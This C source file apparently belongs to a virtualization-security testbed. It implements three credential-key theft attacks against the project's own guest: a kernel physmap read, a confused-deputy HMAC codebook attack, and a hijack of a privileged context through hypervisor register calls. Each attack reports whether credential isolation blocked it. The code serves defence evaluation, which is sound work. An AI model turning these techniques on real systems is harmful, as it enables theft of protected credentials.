/*
 * Family 10 (docs/attacks.md): steal the credential key.
 *
 * With credential isolation (credguard=on, the default) the key exists only in VTL1's .secret page;
 * the VTL0 kernel asks VTL1 for HMAC-SHA256(key, challenge) (VBS_CALL_CRED_HMAC, SYS_CRED_HMAC for
 * ring 3).  With credguard=off the kernel keeps the key itself, in its own memory, and computes the
 * HMAC in VTL0 (guest/vbs/vtl0/vsm.c).  Each program first finds out where the key lives the way a
 * credential dumper does (the kernel's own variables: vbs.armed, vbs.sk_key, vbs_cred_key_vtl0()),
 * then goes for it with one primitive, and proves the theft: it prints the key and computes
 * HMAC-SHA256(stolen key, challenge) in ring 3, which must equal what the credential service answers.
 */
#include "lib/hyperv.h"
#include "lib/sha256.h" /* guest/lib/sha256.c, linked into the attack programs */
#include "vbs/user/ulib.h"

/* ---- common steps ---- */
#define KEY_LEN 32

static void hex(char *out, const u8 *p, int n)
{
    for (int i = 0; i < n; i++) {
        out[2 * i] = "0123456789abcdef"[p[i] >> 4];
        out[2 * i + 1] = "0123456789abcdef"[p[i] & 15];
    }
    out[2 * n] = 0;
}

/* Where the key lives, from the kernel's own state: VTL1's key page (credguard armed), or the buffer the
 * kernel keeps for its own HMAC (vbs_cred_key_vtl0(), credguard off).  gpa: guest-physical address. */
struct keyloc {
    u64 gpa;
    int vtl; /* 1: in VTL1's region, 0: in the VTL0 kernel's memory */
};

static struct keyloc locate_key(void)
{
    u64 vbs = ksym("vbs");
    if (!vbs)
        attack_error("no 'vbs' in /proc/kallsyms");
    u32 armed = (u32)kread(vbs + __builtin_offsetof(struct vbs_state, armed));
    struct keyloc k = {0, 0};
    if (armed & VBS_F_CREDGUARD) {
        k.gpa = kread(vbs + __builtin_offsetof(struct vbs_state, sk_key));
        k.vtl = 1;
        u_printf("  attack: credential isolation is armed (vbs.armed 0x%x): the key is VTL1's, at GPA 0x%lx "
                 "(vbs.sk_key; VTL1 region 0x%lx+0x%lx)\n", armed, k.gpa,
                 kread(vbs + __builtin_offsetof(struct vbs_state, sk_base)),
                 kread(vbs + __builtin_offsetof(struct vbs_state, sk_size)));
    } else {
        u64 f = ksym("vbs_cred_key_vtl0");
        k.gpa = f ? (u64)kcall(f, 0) : 0; /* VTL0 maps VA == PA */
        u_printf("  attack: credential isolation is off (vbs.armed 0x%x): the kernel keeps the key at 0x%lx "
                 "(vbs_cred_key_vtl0())\n", armed, k.gpa);
    }
    if (!k.gpa)
        attack_error("the key's address is unknown");
    return k;
}

/* The proof: HMAC-SHA256(stolen key, challenge) computed here equals the credential service's answer. */
static NORETURN void prove_and_report(const u8 key[KEY_LEN], const char *how)
{
    u8 chal[24], mine[32], theirs[32];
    memcpy(chal, "steal-proof-", 12);
    for (int i = 12; i < 24; i++)
        chal[i] = (u8)(0x41 + i * 7 + (u8)usys(SYS_GETPID, 0, 0, 0));
    long r = usys(SYS_CRED_HMAC, (u64)chal, sizeof(chal), (u64)theirs);
    if (r)
        attack_error("SYS_CRED_HMAC failed: %ld", r);
    hmac_sha256(key, KEY_LEN, chal, sizeof(chal), mine);
    char kh[2 * KEY_LEN + 1], mh[65];
    hex(kh, key, KEY_LEN);
    hex(mh, theirs, 32);
    u_printf("  attack: stolen key %s\n  attack: SYS_CRED_HMAC(challenge) = %s\n", kh, mh);
    hex(mh, mine, 32);
    u_printf("  attack: HMAC-SHA256(stolen key, challenge) computed in ring 3 = %s\n", mh);
    if (memcmp(mine, theirs, 32))
        attack_blocked("the bytes obtained (%s) are not the key: their HMAC differs from the service's", how);
    attack_succeeded("credential key %s %s; HMAC-SHA256 of a challenge with it equals SYS_CRED_HMAC's answer", kh,
                     how);
}

/*
 * steal-read (10a): Mimikatz sekurlsa::logonpasswords reading LSASS memory, or a kernel R/W primitive
 * reading a secret through the direct map (Linux /dev/mem, the physmap).  Read the key's guest-physical
 * address through the kernel's physmap alias with the driver's arbitrary read.  VTL1's region is mapped
 * RW in VTL0's own page tables (the physmap covers all RAM); only VTL1's NPT protection (no access for
 * VTL0) stands in the way: the read is a GpaIntercept, VTL1 injects #GP, the kernel oopses and kills us.
 */
static int attack_steal_read(const char *args)
{
    (void)args;
    struct keyloc k = locate_key();
    u64 va = physmap(k.gpa);
    u_printf("  attack: reading 32 bytes at GPA 0x%lx through the physmap alias 0x%lx\n", k.gpa, va);
    u8 key[KEY_LEN];
    kread_buf(key, va, KEY_LEN);
    prove_and_report(key, "read from its page with kread");
}
UATTACK("steal-read", attack_steal_read);

/*
 * steal-deputy (10b): a confused deputy.  The credential service hashes a buffer named by its caller
 * (CRED_HMAC: a GPA and a length).  Ask it to hash ONE byte of the key page itself, 32 times: HMAC(key,
 * key[i]) matches one of the 256 answers to ordinary one-byte challenges, which gives key[i].  The
 * attacker never touches the key; the service reads it for him (the pattern of SecureKernel bugs where
 * a VTL1 service trusted a VTL0-supplied address: Amar/King, "Breaking VSM by Attacking SecureKernel",
 * Black Hat USA 2020).  The request goes through the kernel's own cred_hmac(msg, len, out, by_vtl1),
 * reached with the driver's call.  With credential isolation the service is VTL1, which refuses any
 * buffer outside VTL0's RAM or inside its own region (sk/main.c vtl0_range_ok): -EINVAL.
 * That refusal is VTL1 software the hypervisor never sees: the row's evidence is the status VTL1
 * returned, as this program reports it ("expect_guest"; docs/attacks.md).
 */
static int attack_steal_deputy(const char *args)
{
    (void)args;
    struct keyloc k = locate_key();
    u64 f = ksym("cred_hmac"), kbuf = kalloc_page();
    if (!f || !kbuf)
        attack_error("missing cred_hmac or a kernel page");
    /* 1. the codebook: the service's answer to each one-byte challenge (fingerprint: first 8 bytes) */
    u64 *book = (u64 *)U_SCRATCH;
    for (int b = 0; b < 256; b++) {
        u8 m = (u8)b, mac[32];
        long r = usys(SYS_CRED_HMAC, (u64)&m, 1, (u64)mac);
        if (r)
            attack_error("SYS_CRED_HMAC(one byte) failed: %ld", r);
        memcpy(&book[b], mac, 8);
    }
    u_printf("  attack: codebook of 256 one-byte HMACs from SYS_CRED_HMAC; now asking the service to hash the "
             "key's own bytes (cred_hmac(0x%lx + i, 1) through the driver)\n", k.gpa);
    /* 2. the deputy hashes key[i] for us */
    u8 key[KEY_LEN];
    for (int i = 0; i < KEY_LEN; i++) {
        long st = kcall6(f, k.gpa + (u64)i, 1, kbuf, kbuf + 32, 0, 0);
        if (st)
            attack_blocked("the credential service refused to hash byte %d of the key page (GPA 0x%lx): status %ld "
                           "(%s)", i, k.gpa + (u64)i, st, st == -EINVAL ? "-EINVAL: a buffer inside VTL1's region" : "");
        u64 fp = kread(kbuf);
        int hit = -1;
        for (int b = 0; b < 256; b++)
            if (book[b] == fp)
                hit = b;
        if (hit < 0)
            attack_blocked("the service's answer for byte %d matches no one-byte challenge", i);
        key[i] = (u8)hit;
    }
    prove_and_report(key, "recovered byte by byte by the credential service hashing its own key page");
}
UATTACK("steal-deputy", attack_steal_deputy);

/*
 * steal-vpregs (10c): take over the key holder's execution context through the hypervisor's register
 * interface (HvCallGetVpRegisters/HvCallSetVpRegisters, TLFS 15.x), and have it copy the key out: set
 * its RIP to memcpy with RDI = a buffer of ours, RSI = the key, RDX = 32.  Models a register-interface
 * bug that lets a lower VTL drive a more privileged context (the TLFS VSM rule it relies on: a VTL may
 * get or set the registers of its own and of lower VTLs only), exploited as debugger-style context
 * hijacking (set RIP/RSP/CR3, resume, restore).
 * The key holder is VTL1 with credential isolation: the program asks for VTL1's registers with
 * input_vtl = 1 (to save the context it hijacks); a lower VTL may not access a higher VTL's registers:
 * HV_STATUS_ACCESS_DENIED.  Without credential isolation the holder is the VTL0 kernel, whose own
 * registers a VTL may set: the same SetVpRegisters redirect runs memcpy in the kernel (the hypercall
 * returns into it).
 */
#define HV_HDR 16
/* TLFS register names lib/hyperv.h does not list */
#define HvX64RegisterRdx 0x00020002u
#define HvX64RegisterRsp 0x00020004u
#define HvX64RegisterRsi 0x00020006u
#define HvX64RegisterRdi 0x00020007u
static u64 hv_set_regs(u64 page, u8 input_vtl, const u32 *names, const u64 *values, int n)
{
    u8 in[HV_HDR + 32 * 6];
    memset(in, 0, sizeof(in));
    struct hv_vp_registers_header *h = (void *)in;
    h->partition_id = HV_PARTITION_ID_SELF;
    h->vp_index = HV_VP_INDEX_SELF;
    h->input_vtl = input_vtl;
    for (int i = 0; i < n; i++) {
        struct hv_register_assoc *a = (void *)(in + HV_HDR + 32 * i);
        a->name = names[i];
        a->value_lo = values[i];
    }
    kwrite_buf(page, in, HV_HDR + 32 * (u64)n);
    return khypercall(HvCallSetVpRegisters | HV_REP(n), page, 0);
}

static u64 hv_get_regs(u64 page, u8 input_vtl, const u32 *names, u64 *values, int n)
{
    u8 in[HV_HDR + 4 * 6];
    memset(in, 0, sizeof(in));
    struct hv_vp_registers_header *h = (void *)in;
    h->partition_id = HV_PARTITION_ID_SELF;
    h->vp_index = HV_VP_INDEX_SELF;
    h->input_vtl = input_vtl;
    memcpy(in + HV_HDR, names, 4 * (u64)n);
    kwrite_buf(page, in, HV_HDR + 4 * (u64)n);
    u64 st = khypercall(HvCallGetVpRegisters | HV_REP(n), page, page + 2048);
    for (int i = 0; i < n && !HV_STATUS(st); i++)
        values[i] = kread(page + 2048 + 16 * (u64)i);
    return st;
}

static int attack_steal_vpregs(const char *args)
{
    (void)args;
    struct keyloc k = locate_key();
    u64 vbs = ksym("vbs"), memcpy_k = ksym("memcpy"), page = kalloc_page(), hvpage = ksym("__hvcall_page");
    if (!vbs || !memcpy_k || !page || !hvpage)
        attack_error("missing symbols or a kernel page");
    if (!kread(vbs + __builtin_offsetof(struct vbs_state, vsm)))
        attack_error("no VSM: the kernel enabled no hypercall page");
    u64 dst = page + 3072;
    u8 key[KEY_LEN];
    if (k.vtl == 0) {
        /* the holder is the kernel itself: redirect it, from the hypercall, into memcpy(dst, key, 32) */
        static const u32 names[4] = {HvX64RegisterRdi, HvX64RegisterRsi, HvX64RegisterRdx, HvX64RegisterRip};
        u64 values[4] = {dst, k.gpa, KEY_LEN, memcpy_k};
        u_printf("  attack: SetVpRegisters(VTL0: RDI 0x%lx RSI 0x%lx RDX 32 RIP memcpy 0x%lx)\n", dst, k.gpa,
                 memcpy_k);
        u64 r = hv_set_regs(page, HV_INPUT_VTL_SELF, names, values, 4);
        if (r != dst)
            attack_blocked("SetVpRegisters on the key holder's context: status 0x%x (the redirect did not run)",
                           HV_STATUS(r));
        kread_buf(key, dst, KEY_LEN);
        prove_and_report(key, "copied out by the key holder's own memcpy, its RIP set with SetVpRegisters");
    }
    /* the holder is VTL1: save the context we hijack (RIP, RSP, CR3), point it at memcpy in VTL0's page
     * tables with a stack that returns through the VTL-return stub, VtlCall with the arguments, restore */
    static const u32 ctx_names[3] = {HvX64RegisterRip, HvX64RegisterRsp, HvX64RegisterCr3};
    u64 saved[3] = {0, 0, 0};
    u_printf("  attack: GetVpRegisters(input_vtl 1: RIP RSP CR3): the key holder's context\n");
    u64 st = hv_get_regs(page, HV_INPUT_VTL(1), ctx_names, saved, 3);
    if (HV_STATUS(st))
        attack_blocked("HvCallGetVpRegisters for VTL1 from VTL0: status 0x%x%s", HV_STATUS(st),
                       HV_STATUS(st) == HV_STATUS_ACCESS_DENIED ? " (HV_STATUS_ACCESS_DENIED)" : "");
    static const u32 offs_name[1] = {HvRegisterVsmCodePageOffsets};
    u64 offsets = 0;
    if (HV_STATUS(hv_get_regs(page, HV_INPUT_VTL_SELF, offs_name, &offsets, 1)))
        attack_error("GetVpRegisters(VsmCodePageOffsets) failed");
    u64 kpt = kread(ksym("kpt")), stub = kread(ksym("vtl_call_stub"));
    u64 stack = page + 1024;
    kwrite(stack, hvpage + ((offsets >> 12) & 0xfff)); /* memcpy's ret: the VtlReturn stub of VTL0's page */
    u64 hijack[3] = {memcpy_k, stack, kpt};
    u_printf("  attack: VTL1 at RIP 0x%lx RSP 0x%lx CR3 0x%lx; SetVpRegisters(input_vtl 1: RIP memcpy, RSP 0x%lx, "
             "CR3 0x%lx)\n", saved[0], saved[1], saved[2], stack, kpt);
    st = hv_set_regs(page, HV_INPUT_VTL(1), ctx_names, hijack, 3);
    if (HV_STATUS(st))
        attack_blocked("HvCallSetVpRegisters for VTL1 from VTL0: status 0x%x", HV_STATUS(st));
    kcall3(stub, dst, physmap(k.gpa), KEY_LEN); /* VtlCall: VTL1 runs memcpy(dst, key, 32), then VtlReturn */
    st = hv_set_regs(page, HV_INPUT_VTL(1), ctx_names, saved, 3);
    if (HV_STATUS(st))
        attack_error("could not restore VTL1's context: status 0x%x", HV_STATUS(st));
    kread_buf(key, dst, KEY_LEN);
    prove_and_report(key, "copied out by VTL1 running memcpy, its RIP/RSP/CR3 set with SetVpRegisters");
}
UATTACK("steal-vpregs", attack_steal_vpregs);
